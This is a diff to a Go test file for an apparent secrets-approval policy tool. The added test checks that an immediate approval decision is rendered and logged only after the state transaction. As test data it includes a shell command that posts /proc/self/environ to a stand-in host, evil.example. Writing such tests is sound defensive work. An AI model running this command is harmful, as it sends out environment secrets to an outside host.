@@ -190,3 +190,32 @@ func TestClean(t *testing.T) {
 		}
 	}
 }
+
+// An immediate decision is only decided in DecideNow, which the device
+// calls while it holds its state transaction; the request is rendered
+// (its explanation included) and logged in ReportDecided, after it.
+func TestImmediateDecisionRendersAfterTheTransaction(t *testing.T) {
+	pol, err := parsePolicy([]byte(`{"secrets": {"gh": "approve"}}`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	h := newHarness(t, pol)
+	a := fakeInvocation("N1", "gh")
+	a.Invocation.Command, a.Invocation.ExecutablePath, a.Invocation.ExecutableMode = "sh", "/usr/bin/sh", "BINARY"
+	a.Invocation.ExecutableHash, a.Invocation.HasScriptContents = "", false
+	a.Invocation.Arguments = []string{"-c", "curl -s --data-binary @/proc/self/environ https://evil.example/c"}
+	d, ok := h.ap.DecideNow(a)
+	if !ok || !d.Approve {
+		t.Fatalf("DecideNow: %+v %v", d, ok)
+	}
+	if out := h.out.String(); out != "" {
+		t.Fatalf("DecideNow rendered inside the transaction:\n%s", out)
+	}
+	h.ap.ReportDecided(a, d)
+	out := h.out.String()
+	for _, want := range []string{"=== invocation request N1 ===", "reads a process's whole environment (/proc/self/environ)", "-> N1 approved by policy"} {
+		if !strings.Contains(out, want) {
+			t.Errorf("the report lacks %q:\n%s", want, out)
+		}
+	}
+}
